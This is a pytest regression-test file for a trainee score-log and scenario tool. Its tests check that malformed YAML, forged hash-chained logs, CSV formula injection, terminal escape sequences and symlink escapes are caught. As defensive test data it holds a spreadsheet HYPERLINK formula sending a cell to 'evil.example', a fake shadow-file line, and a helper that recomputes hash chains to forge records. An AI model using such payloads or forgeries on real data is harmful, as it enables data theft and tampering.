"""One bad file never stops a class, and no record is silently forged or leaked.

Each test is a defect from issue 12 that failed before: bad YAML core tags and huge numbers crashed
the loader (and the library, and hot reload); ``validate`` passed scenarios that crash at play; one
log with a field of the wrong type crashed cohort, debrief, xapi and the picker; mathtext in a trainee
id crashed the HTML reports; a forged unkeyed summary was called "verified"; a keyed log rewritten as
unkeyed passed; copies of a session were counted as sessions; CSV cells ran as formulas; escape
sequences hid terminal lines; a symlink printed another file; node ids broke xAPI IRIs; pseudonymised
reports named files.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
from pathlib import Path

import pytest

from game.records.cohort import Aggregator, Filters, log_files, scan
from game.records.hotreload import ScenarioWatcher
from game.records.logread import LogError, read_log
from game.records.scorelog import GENESIS, body_hash, canonical
from game.records.xapi import Builder
from game.ui.records import best_results
from tests.conftest import LIB
from tests.helpers import cli
from tests.logplay import play

KEY = "academy-secret-for-tests"
MINI = (LIB / "mini.yaml").read_text()


def _scenario(tmp_path: Path, text: str, name: str = "mini.yaml") -> Path:
    folder = tmp_path / "scn"
    folder.mkdir(exist_ok=True)
    path = folder / name
    path.write_text(text)
    return path


def rechain(lines: list[bytes], key: bytes | None = None, *, keyed: bool | None = None) -> bytes:
    """What a forger does: rewrite the events, then recompute every hash so the chain is whole again."""
    prev, out = GENESIS, []
    for line in lines:
        event = json.loads(line)
        event.pop("hash", None)
        if event["type"] == "session_start" and keyed is not None:
            event["keyed"] = keyed
        event["prev"] = prev
        body = canonical(event)
        prev = body_hash(prev, body, key)
        out.append(body[:-1] + b',"hash":"' + prev.encode() + b'"}')
    return b"\n".join(out) + b"\n"


# --- content that crashed -----------------------------------------------------------------------------


@pytest.mark.parametrize(("old", "new", "line", "says"), [
    ("minutes: 2", "minutes: !!int ten", 8, "'ten' is not a whole number"),
    ("seconds: 10", "seconds: !!float ten", 27, "'ten' is not a number"),
    ("asked: false", "asked: !!bool maybe", 19, "'maybe' is not true or false"),
    ("minutes: 2", 'minutes: !!int ""', 8, "'' is not a whole number"),
    ("minutes: 2", "minutes: !!int 0x", 8, "'0x' is not a whole number"),
    ("pushes: 0", "pushes: " + "9" * 4301, 20, "is too long"),
    ("pushes: +1", "pushes: 0x" + "f" * 60, 38, "is too large"),
])
def test_bad_core_tag_values_and_huge_numbers_are_load_errors_with_a_line(tmp_path: Path, old: str, new: str,
                                                                          line: int, says: str) -> None:
    path = _scenario(tmp_path, MINI.replace(old, new))
    result = cli("validate", str(path), "--library", str(LIB))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert re.search(rf"mini\.yaml:{line}:\d+: CG011 .*{re.escape(says)}", result.stderr), result.stderr
    library = cli("play", "mini", "--text", "--library", str(path.parent), "--library", str(LIB), "--log-dir",
                  str(tmp_path / "logs"), stdin="1\n1\n1\n")
    assert library.returncode == 0 and "Traceback" not in library.stderr  # the bad file is skipped, play goes on


def test_hot_reload_keeps_the_last_good_version(rubric, tmp_path: Path) -> None:
    path = _scenario(tmp_path, MINI)
    watcher = ScenarioWatcher(path, rubric)
    for bad, code in ((MINI.replace("minutes: 2", "minutes: !!int ten"), "CG011"),
                      (MINI.replace("  hot:\n", "  hot:\n    branches: [{goto: talk}]\n"), "CG032")):
        path.write_text(bad + "\n")
        os.utime(path, ns=(path.stat().st_mtime_ns + 10**9, path.stat().st_mtime_ns + 10**9))
        change = watcher.poll()
        assert change is not None and not change.ok and change.diagnostics[0].code == code


@pytest.mark.parametrize(("changes", "code", "says"), [
    ([("  hot:\n", "  hot:\n    branches: [{goto: talk}]\n")], "CG032", "loop back to 'talk'"),
    ([("      - id: leave\n        text: Say", "      - id: leave\n        if: not asked\n        text: Say")],
     "CG033", "'listen' offers no choice"),
    ([("description: A neighbour.}", 'description: A neighbour., portrait: "a\\0b.png"}')], "CG011", "NUL"),
    ([("description: A neighbour.}", f"description: A neighbour., portrait: {'x' * 300}.png}}")], "CG011",
     "longer than 255"),
    ([("talk_again", "talk again")], "CG011", "may only use letters, digits"),
    ([("end_meh", "end<meh>")], "CG011", "may only use letters, digits"),
])
def test_validate_refuses_what_would_stop_or_break_play(tmp_path: Path, changes, code: str, says: str) -> None:
    text = MINI
    for old, new in changes:
        text = text.replace(old, new)
    path = _scenario(tmp_path, text)
    result = cli("validate", str(path), "--library", str(LIB))
    assert result.returncode == 1 and f"{code} " in result.stderr and says in result.stderr, result.stderr
    for command in (["explore", str(path)], ["graph", str(path)]):
        other = cli(*command, "--library", str(LIB))
        assert "Traceback" not in other.stderr, other.stderr


def test_a_link_out_of_the_library_folder_is_refused_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$s3cr3t-hash:19000:0:99999:7:::\n")
    folder = tmp_path / "lib"
    folder.mkdir()
    shutil.copy(LIB / "mini.yaml", folder / "mini.yaml")
    shutil.copy(LIB / "topics.yaml", folder / "topics.yaml")
    (folder / "x.yaml").symlink_to(secret)
    for command in ("validate", "lint"):
        result = cli(command, str(folder))
        assert "s3cr3t" not in result.stdout + result.stderr
        assert "CG027" in result.stderr and "outside the library folder" in result.stderr
    listed = cli("list", "--library", str(folder))
    assert "s3cr3t" not in listed.stdout + listed.stderr and "Mini Test Scene" in listed.stdout


# --- logs that crashed their readers -------------------------------------------------------------------------


@pytest.fixture
def class_logs(mini, rubric, tmp_path: Path) -> Path:
    folder = tmp_path / "class"
    for i, steps in enumerate([["distance", "ask", "help"], ["wait", "ask", "leave"], ["rush", "grab"]]):
        play(mini, rubric, folder, steps, trainee=f"cadet-{i}")
    return folder


@pytest.mark.parametrize("forged", [False, True], ids=["edited", "edited-and-rechained"])
def test_a_field_of_the_wrong_type_is_one_error_line_in_every_reader(class_logs: Path, forged: bool,
                                                                     tmp_path: Path) -> None:
    victim = sorted(class_logs.glob("*.jsonl"))[0]
    lines = victim.read_bytes().splitlines()
    event = json.loads(lines[2])
    assert event["type"] == "choice"
    event["scores"] = [1, 2]
    lines[2] = json.dumps(event, separators=(",", ":")).encode()
    victim.write_bytes(rechain(lines) if forged else b"\n".join(lines) + b"\n")
    for args in (["cohort", str(class_logs)], ["cohort", str(class_logs), "--only-verified"],
                 ["cohort", str(class_logs), "--include-unverified", "--html", str(tmp_path / "c.html")],
                 ["debrief", str(victim)], ["replay", str(victim), "--library", str(LIB)], ["verify", str(victim)],
                 ["xapi", str(victim), "--allow-unverified", "--out", str(tmp_path / "x.json")]):
        result = cli(*args)
        assert "Traceback" not in result.stderr, (args, result.stderr)
        assert f"{victim}:3:1:" in result.stdout + result.stderr, args  # the line; rechained, also the field
        assert not forged or "scores" in result.stdout + result.stderr, args
    counted = cli("cohort", str(class_logs))
    assert "2 sessions of 2 trainees" in counted.stdout
    assert "cadet-0" not in best_results(class_logs, "cadet-0")  # the picker skips it


def test_dollar_signs_in_trainee_ids_and_titles_are_plain_text_in_reports(mini, rubric, tmp_path: Path) -> None:
    folder = tmp_path / "class"
    for trainee in (r"$\frac{$", "$5", "$5 and $6"):
        play(mini, rubric, folder, ["distance", "ask", "help"], trainee=trainee)
        play(mini, rubric, folder, ["rush", "grab"], trainee=trainee)
    result = cli("cohort", str(folder), "--html", str(tmp_path / "c.html"), "--library", str(LIB))
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    page = (tmp_path / "c.html").read_text()
    assert "$5 and $6" in page and "$\\frac{$" in page
    lib = tmp_path / "lib"
    lib.mkdir()
    shutil.copy(LIB / "topics.yaml", lib)
    (lib / "mini.yaml").write_text(MINI.replace("title: Dog found", r"title: 'Found $\frac{$ dog for $5'"))
    log = play(mini, rubric, tmp_path / "one", ["distance", "ask", "help"], trainee="kay")
    out = tmp_path / "d.html"
    result = cli("debrief", str(log), "--library", str(lib), "--html", str(out), "--no-graphviz")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert r"Found $\frac{$ dog for $5" in out.read_text()


# --- forged records ------------------------------------------------------------------------------------


def _forged_summary(path: Path, *, whole_chain: bool) -> None:
    """Say 100% in the summary of a poor session, then make the chain whole again (or just the last hash)."""
    lines = path.read_bytes().splitlines()
    summary = json.loads(lines[-1])
    for line in (summary["score"]["overall"], *summary["score"]["principles"].values(),
                 *summary["score"]["topics"].values()):
        line["percent"] = 100.0
    summary["outcome"] = "resolved"
    lines[-1] = json.dumps(summary).encode()
    if whole_chain:
        path.write_bytes(rechain(lines))
    else:
        body = json.loads(lines[-1])
        body.pop("hash")
        raw = canonical(body)
        digest = body_hash(body["prev"], raw, None)
        path.write_bytes(b"\n".join([*lines[:-1], raw[:-1] + b',"hash":"' + digest.encode() + b'"}']) + b"\n")


@pytest.mark.parametrize("whole_chain", [True, False], ids=["chain-recomputed", "last-hash-recomputed"])
def test_a_forged_unkeyed_summary_is_never_verified_nor_counted_nor_sent(mini, rubric, tmp_path: Path,
                                                                        whole_chain: bool) -> None:
    folder = tmp_path / "logs"
    log = play(mini, rubric, folder, ["rush", "grab"], trainee="cadet")
    _forged_summary(log, whole_chain=whole_chain)
    verify = cli("verify", str(log))
    assert verify.returncode == 1 and f"{log}:" in verify.stdout and ": summary: " in verify.stdout
    debrief = cli("debrief", str(log), "--library", str(LIB))
    assert "integrity: FAILED" in debrief.stdout and "UNVERIFIED" in debrief.stderr
    assert "verified (" not in debrief.stdout
    cohort = cli("cohort", str(folder))
    assert "0 sessions" in cohort.stdout and "failed their integrity check" in cohort.stderr
    xapi = cli("xapi", str(log), "--out", str(tmp_path / "x.json"), "--library", str(LIB))
    assert xapi.returncode == 1 and "not sent" in xapi.stderr and "0 statements" in xapi.stdout


def test_a_keyed_log_rewritten_as_unkeyed_is_refused_where_a_key_is_configured(mini, rubric, tmp_path: Path
                                                                               ) -> None:
    folder = tmp_path / "logs"
    log = play(mini, rubric, folder, ["distance", "ask", "help"], trainee="cadet", key=KEY.encode())
    keyed = {"COMMONGROUND_ACADEMY_KEY": KEY}
    assert "verified (signed with the academy key" in cli("verify", str(log), env=keyed).stdout
    log.write_bytes(rechain(log.read_bytes().splitlines(), None, keyed=False))
    for args in (["verify", str(log)], ["cohort", str(folder)], ["debrief", str(log)],
                 ["xapi", str(log), "--out", str(tmp_path / "x.json")]):
        result = cli(*args, env=keyed)
        text = result.stdout + result.stderr
        assert ": unkeyed: " in text and "verified (" not in text, args
    assert "0 sessions" in cli("cohort", str(folder), env=keyed).stdout
    elsewhere = cli("verify", str(log))  # a machine without the key cannot tell: it says so, never "verified"
    assert elsewhere.returncode == 0 and "unsigned: edits cannot be detected" in elsewhere.stdout


def test_copies_of_one_session_count_once(mini, rubric, tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    log = play(mini, rubric, folder, ["distance", "ask", "help"], trainee="cadet")
    for i in range(419):
        shutil.copy(log, folder / f"copy-{i:03d}.jsonl")
    agg = Aggregator()
    for item in scan(log_files([folder]), None, Filters(), workers=1):
        agg.add(item)
    c = agg.finish()
    assert c.sessions == 1 and len(c.duplicates) == 419 and c.trainees == 1
    result = cli("cohort", str(folder), "--workers", "1")
    assert "1 sessions of 1 trainees" in result.stdout and "419 log(s) are copies" in result.stderr


def test_csv_cells_that_would_run_as_formulas_are_escaped(mini, rubric, tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    for trainee in ('=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1)"):
        play(mini, rubric, folder, ["distance", "ask", "help"], trainee=trainee)
    out = tmp_path / "c.csv"
    assert cli("cohort", str(folder), "--csv", str(out)).returncode == 0
    cells = [row["trainee"] for row in csv.DictReader(out.open())]
    assert sorted(cells) == sorted(["'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "'+1+2", "'-3",
                                    "'@SUM(A1)"])
    assert (out.stat().st_mode & 0o077) == 0


def test_escape_sequences_never_reach_the_terminal(mini, rubric, tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    log = play(mini, rubric, folder, ["rush", "grab"], trainee="cadet\x1b[8m\r\u202e")
    lines = log.read_bytes().splitlines()
    del lines[3]
    log.write_bytes(b"\n".join(lines) + b"\n")
    for args in (["cohort", str(folder), "--include-unverified"], ["debrief", str(log)], ["verify", str(log)]):
        result = cli(*args)
        text = result.stdout + result.stderr
        assert "\x1b" not in text and "\r" not in text and "\u202e" not in text, args
    debrief = cli("debrief", str(log))  # the id comes before the warning it used to hide
    assert "trainee cadet?[8m??" in debrief.stdout and "WARNING: UNVERIFIED" in debrief.stdout


def test_pseudonymised_reports_never_show_file_names(mini, rubric, tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    play(mini, rubric, folder, ["distance", "ask", "help"], trainee="cadet-jane-doe")
    (folder / "20260101T000000Z-cadet-john-roe-mini-1234abcd.jsonl").write_text("not a log\n")
    out = tmp_path / "c.html"
    table = tmp_path / "c.csv"
    result = cli("cohort", str(folder), "--pseudonymize", "--html", str(out), "--csv", str(table),
                 env={"COMMONGROUND_PSEUDONYM_KEY": "k"})
    assert result.returncode == 1  # files that are not logs are reported
    for text in (out.read_text(), table.read_text()):
        assert "cadet-" not in text and ".jsonl" not in text
    assert "1 file(s) were not score logs" in out.read_text() and "log file 1: not a score log" in out.read_text()


def test_node_ids_from_any_log_make_valid_iris(mini, rubric, tmp_path: Path) -> None:
    models = pytest.importorskip("ralph.models.xapi.base.statements", reason="Ralph is not installed")
    log = play(mini, rubric, tmp_path, ["distance", "ask", "help"], trainee="cadet")
    text = log.read_text().replace('"talk"', '"t a<l>k"').replace('"mini"', '"m i/n?i#"')
    log.write_bytes(rechain(text.encode().splitlines()))
    statements = Builder(read_log(log), None, verified=False, integrity="unsigned").statements()
    for s in statements:
        models.BaseXapiStatement(**s)
        assert " " not in s["object"]["id"] and "<" not in s["object"]["id"]
    assert any(s["object"]["id"].endswith("/nodes/t%20a%3Cl%3Ek") for s in statements)


def test_log_error_is_a_located_line_for_a_huge_or_strange_file(tmp_path: Path) -> None:
    for content in (b"\xff\xfe\n", b"[]\n", b'{"type": "session_start", "v": 1}\n', b"{" * 100_000 + b"\n"):
        path = tmp_path / "x.jsonl"
        path.write_bytes(content)
        with pytest.raises(LogError) as caught:
            read_log(path)
        assert str(caught.value).startswith(f"{path}:1:1: ")


def test_key_deployment_and_the_lrs_are_documented() -> None:
    from tests.conftest import ROOT

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "COMMONGROUND_ACADEMY_KEY" in readme and "where the trainee cannot read it" in readme
    assert "unsigned: edits cannot be detected" in readme and "xapi --outbox" in readme
    doc = (ROOT / "docs" / "score-log.md").read_text(encoding="utf-8")
    keys = doc.split("## Keys", 1)[1].split("\n## ", 1)[0]
    for setup in ("instructor's station", "service account", "trainee's own account"):
        assert setup in keys
    assert keys.count("Protects:") >= 2 and "Does not protect" in keys
    assert "lrs.toml" in doc and "Redirects are never followed" in " ".join(doc.split())


def test_a_summary_with_a_consistent_but_forged_best_is_caught_against_the_scenario(mini, rubric, tmp_path: Path
                                                                                    ) -> None:
    log = play(mini, rubric, tmp_path / "logs", ["wait", "ask", "leave"], trainee="cadet")  # points lost on the way
    lines = log.read_bytes().splitlines()
    summary = json.loads(lines[-1])
    overall = summary["score"]["overall"]
    assert overall["earned"] < overall["stake"]
    overall.update(earned=overall["stake"], percent=100.0)  # adds up on its own terms
    lines[-1] = json.dumps(summary).encode()
    log.write_bytes(rechain(lines))
    alone = cli("verify", str(log))  # without the scenario nothing shows: it is only unsigned
    assert alone.returncode == 0 and "unsigned: edits cannot be detected" in alone.stdout
    debrief = cli("debrief", str(log), "--library", str(LIB))
    assert "integrity: FAILED" in debrief.stdout and "the summary gives overall earned" in debrief.stderr
    xapi = cli("xapi", str(log), "--library", str(LIB), "--out", str(tmp_path / "x.json"))
    assert xapi.returncode == 1 and "not sent" in xapi.stderr


def _forge_ending(log: Path, ending: str, outcome: str) -> None:
    """A forger's careful edit: the ending event, the summary and its score card all name a kinder ending."""
    lines = log.read_bytes().splitlines()
    out = []
    for line in lines:
        event = json.loads(line)
        if event["type"] == "ending":
            event.update(ending=ending, outcome=outcome)
        elif event["type"] == "summary":
            event.update(ending=ending, outcome=outcome)
            event["score"].update(ending=ending, outcome=outcome)
        out.append(json.dumps(event).encode())
    log.write_bytes(rechain(out))


def test_an_ending_the_logged_choices_never_reach_is_caught_by_playing_them_again(mini, rubric, tmp_path: Path
                                                                                 ) -> None:
    """Every figure adds up and the ending's outcome is right for the ending named: only the engine, playing
    the logged choices again, sees that they lead to force, not to a complaint."""
    folder = tmp_path / "logs"
    log = play(mini, rubric, folder, ["rush", "grab"], trainee="cadet")
    _forge_ending(log, "end_bad", "complaint")
    alone = cli("verify", str(log))  # without the scenario it adds up: unsigned, never "verified"
    assert alone.returncode == 0 and "unsigned: edits cannot be detected" in alone.stdout
    says = "the summary says ending 'end_bad'; the logged choices reach 'end_force'"
    verify = cli("verify", str(log), "--library", str(LIB))
    assert verify.returncode == 1 and says in verify.stdout, verify.stdout
    debrief = cli("debrief", str(log), "--library", str(LIB))
    assert "integrity: FAILED" in debrief.stdout and says in debrief.stderr
    cohort = cli("cohort", str(folder), "--library", str(LIB))
    assert "0 sessions" in cohort.stdout and says in cohort.stderr
    xapi = cli("xapi", str(log), "--library", str(LIB), "--out", str(tmp_path / "x.json"))
    assert xapi.returncode == 1 and "not sent" in xapi.stderr


def test_choices_that_cannot_be_taken_there_are_caught(mini, rubric, tmp_path: Path) -> None:
    """A forged path: a choice swapped for one of another node, every figure made to agree."""
    folder = tmp_path / "logs"
    log = play(mini, rubric, folder, ["rush", "grab"], trainee="cadet")
    text = log.read_text().replace('"hot.grab"', '"talk.order"')
    log.write_bytes(rechain(text.encode().splitlines()))
    cohort = cli("cohort", str(folder), "--library", str(LIB))
    assert "0 sessions" in cohort.stdout and "cannot be played on this scenario" in cohort.stderr, cohort.stderr


def test_cohort_says_which_sessions_it_could_not_play_again(mini, rubric, tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    play(mini, rubric, folder, ["distance", "ask", "help"], trainee="cadet")
    here = cli("cohort", str(folder), "--library", str(LIB))
    assert "1 sessions" in here.stdout and "could not be played again" not in here.stderr
    elsewhere = cli("cohort", str(folder))  # the built-in library has no such scenario
    assert "1 sessions" in elsewhere.stdout
    assert "1 counted session(s) could not be played again by the engine" in elsewhere.stderr
